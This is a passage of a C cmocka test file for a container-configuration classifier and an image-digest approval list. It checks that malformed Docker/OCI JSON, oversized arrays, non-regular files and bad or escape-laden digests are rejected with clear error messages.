		       "HostConfig.Privileged is not true or false");
	classify_fails(f, "[{\"HostConfig\": {\"Mounts\": [1]}}]", DD_EFORMAT, "HostConfig.Mounts[0]");
	classify_fails(f, "[{\"HostConfig\": {}, \"Mounts\": [{\"Source\": 7}]}]", DD_EFORMAT, "Mounts[].Source");
	classify_fails(f, "{\"ociVersion\": \"1\", \"process\": {\"user\": {\"uid\": \"0\"}}}", DD_EFORMAT,
		       "process.user.uid is not an integer");
	classify_fails(f, "{\"ociVersion\": \"1\", \"process\": {\"user\": {\"uid\": -1}}}", DD_EFORMAT,
		       "out of range");
	classify_fails(f, "{\"ociVersion\": \"1\", \"process\": {\"user\": {\"uid\": 1.5}}}", DD_EFORMAT,
		       "process.user.uid");
	classify_fails(f, "{\"ociVersion\": \"1\", \"linux\": {\"namespaces\": [\"pid\"]}}", DD_EFORMAT,
		       "linux.namespaces[0]");
	classify_fails(f, "{\"ociVersion\": \"1\", \"mounts\": {\"destination\": \"/\"}}", DD_EFORMAT,
		       "mounts is not an array");
	classify_fails(f, "{\"ociVersion\": \"1\", \"process\": {\"capabilities\": {\"bounding\": [null]}}}",
		       DD_EFORMAT, "process.capabilities.bounding[0]");
}

/* "[\"A\", \"A\", ...]" with N elements inside TEMPLATE's %s (malloc'd). */
static char *huge(const char *template, size_t n)
{
	size_t len = strlen(template) + 6 * n + 16, i;
	char *items = malloc(6 * n + 1), *out = malloc(len), *p = items;

	assert_non_null(items);
	assert_non_null(out);
	for (i = 0; i < n; i++)
		p += sprintf(p, "%s\"A\"", i ? "," : "");
	*p = '\0';
	snprintf(out, len, template, items);
	free(items);
	return out;
}

static void test_huge_arrays(void **state)
{
	struct fx *f = *state;
	char *doc;

	doc = huge("[{\"Config\": {\"Env\": [%s]}}]", 70000);
	classify_fails(f, doc, DD_EFORMAT, "Config.Env has 70000 entries");
	free(doc);
	doc = huge("{\"ociVersion\": \"1\", \"process\": {\"capabilities\": {\"bounding\": [%s]}}}", 100000);
	classify_fails(f, doc, DD_EFORMAT, "more than");
	free(doc);
	/* Large but allowed: compared in n log n, no quadratic blow-up. */
	doc = huge("{\"ociVersion\": \"1\", \"process\": {\"env\": [%s]}}", 60000);
	classify(f, doc);
	free(doc);
}

static void test_not_a_file(void **state)
{
	struct fx *f = *state;
	struct dd_limits lim = DD_LIMITS_INIT;
	int rc;

	rc = classify_path(f, f->dir, false);
	assert_int_equal(rc, DD_EFORMAT);
	assert_non_null(strstr(dd_ctx_error(f->ctx), f->dir));
	assert_non_null(strstr(dd_ctx_error(f->ctx), "not a regular file"));

	rc = classify_path(f, "/tmp/dd-test-config-does-not-exist.json", false);
	assert_int_equal(rc, DD_ENOTFOUND);
	assert_non_null(strstr(dd_ctx_error(f->ctx), "does-not-exist.json"));

	/* A FIFO is refused without blocking on it. */
	unlink(f->path);
	assert_int_equal(mkfifo(f->path, 0600), 0);
	rc = classify_path(f, f->path, false);
	assert_int_equal(rc, DD_EFORMAT);
	unlink(f->path);

	/* Over the JSON limit. */
	lim.max_json = 64;
	assert_int_equal(dd_ctx_set_limits(f->ctx, &lim), 0);
	write_config(f, OCI_OK);
	rc = classify_path(f, f->path, false);
	assert_int_equal(rc, DD_ELIMIT);
	assert_non_null(strstr(dd_ctx_error(f->ctx), f->path));
}

/* ---- digest lists (lib/verify.c) ---- */

static void test_digest_list(void **state)
{
	struct fx *f = *state;
	struct dd_digest_list *l;
	const char *sha512 = "sha512:"
		"00000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000";

	assert_int_equal(dd_digest_list_new(&l, f->ctx), 0);
	assert_int_equal(dd_digest_list_count(l), 0);
	assert_false(dd_digest_list_contains(l, MANIFEST_DIGEST));
	assert_int_equal(dd_digest_list_add(l, MANIFEST_DIGEST, "--expect"), 0);
	assert_int_equal(dd_digest_list_add(l, sha512, NULL), 0);
	assert_int_equal(dd_digest_list_count(l), 2);
	assert_true(dd_digest_list_contains(l, MANIFEST_DIGEST));
	assert_true(dd_digest_list_contains(l, sha512));
	assert_false(dd_digest_list_contains(l, CONFIG_DIGEST));
	assert_false(dd_digest_list_contains(l, "sha256:0836"));
	assert_false(dd_digest_list_contains(l, NULL));

	assert_int_equal(dd_digest_list_add(l, "sha256:0836", "--expect"), DD_EFORMAT);
	assert_string_equal(dd_ctx_error(f->ctx), "--expect: malformed digest 'sha256:0836'");
	/* Uppercase hex is not how OCI writes digests. */
	assert_int_equal(dd_digest_list_add(l, "sha256:083610133B274846BAD7BC38EDD104B5F58974E9E3E77B72CD2E45D3BB7C865C", NULL),
			 DD_EFORMAT);
	assert_int_equal(dd_digest_list_add(l, MANIFEST_DIGEST " ", NULL), DD_EFORMAT);
	assert_int_equal(dd_digest_list_add(l, "md5:d41d8cd98f00b204e9800998ecf8427e", "x"), DD_EUNSUPPORTED);
	assert_non_null(strstr(dd_ctx_error(f->ctx), "unsupported"));
	/* Hostile text comes back escaped. */
	assert_int_equal(dd_digest_list_add(l, "sha256:\033[2J", "x"), DD_EFORMAT);
	assert_null(strchr(dd_ctx_error(f->ctx), '\033'));
	assert_int_equal(dd_digest_list_count(l), 2);
	dd_digest_list_free(l);
	dd_digest_list_free(NULL);
}

static void test_digest_list_load(void **state)
{
	struct fx *f = *state;
	struct dd_digest_list *l;
	char want[256];

	assert_int_equal(dd_digest_list_new(&l, f->ctx), 0);
	write_config(f, "# approved images\n\n  " MANIFEST_DIGEST "  # umoci:latest\r\n\t" OTHER_DIGEST "\n#end");
	assert_int_equal(dd_digest_list_load(l, f->path), 0);
	assert_int_equal(dd_digest_list_count(l), 2);
	assert_true(dd_digest_list_contains(l, MANIFEST_DIGEST));
	assert_true(dd_digest_list_contains(l, OTHER_DIGEST));

	/* A bad line fails the whole file, naming FILE:LINE; nothing of it is kept. */
	write_config(f, CONFIG_DIGEST "\n# ok\nsha256:nothex\n");
	assert_int_equal(dd_digest_list_load(l, f->path), DD_EFORMAT);
	snprintf(want, sizeof(want), "%s:3: malformed digest 'sha256:nothex'", f->path);
	assert_string_equal(dd_ctx_error(f->ctx), want);
	assert_int_equal(dd_digest_list_count(l), 2);
	assert_false(dd_digest_list_contains(l, CONFIG_DIGEST));

	/* Two digests on one line are not one digest. */
	write_config(f, MANIFEST_DIGEST " " OTHER_DIGEST "\n");
	assert_int_equal(dd_digest_list_load(l, f->path), DD_EFORMAT);
	snprintf(want, sizeof(want), "%s:1:", f->path);
	assert_non_null(strstr(dd_ctx_error(f->ctx), want));

	/* A NUL byte inside a line. */
	{
		FILE *fp = fopen(f->path, "w");

		assert_non_null(fp);
		fwrite("sha256:00\0x\n", 1, 12, fp);
		fclose(fp);
	}
	assert_int_equal(dd_digest_list_load(l, f->path), DD_EFORMAT);
	assert_non_null(strstr(dd_ctx_error(f->ctx), "\\000"));

	/* Only comments: an empty approval list is a mistake. */
	write_config(f, "# nothing yet\n\n");
	assert_int_equal(dd_digest_list_load(l, f->path), DD_EFORMAT);
	assert_non_null(strstr(dd_ctx_error(f->ctx), "no digests"));

	assert_int_equal(dd_digest_list_load(l, f->dir), DD_EFORMAT);
	assert_non_null(strstr(dd_ctx_error(f->ctx), "not a regular file"));
	assert_int_equal(dd_digest_list_load(l, "/tmp/dd-test-config-none.txt"), DD_ENOTFOUND);
	assert_int_equal(dd_digest_list_count(l), 2);
	dd_digest_list_free(l);
}

#define T(fn) cmocka_unit_test_setup_teardown(fn, setup, teardown)

int main(void)
{
	const struct CMUnitTest tests[] = {
		T(test_oci_hardened),
		T(test_docker_hardened),
		T(test_fixture_files),
		T(test_env),
		T(test_env_runtime_vars_ignored),
		T(test_command),
		T(test_user),
		T(test_ports),
		T(test_privileged_caps_namespaces),
		T(test_mounts),
		T(test_rootfs_nnp),
		T(test_image_ref),
		T(test_no_image),
		T(test_malformed),
		T(test_huge_arrays),
		T(test_not_a_file),
		T(test_digest_list),
		T(test_digest_list_load),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
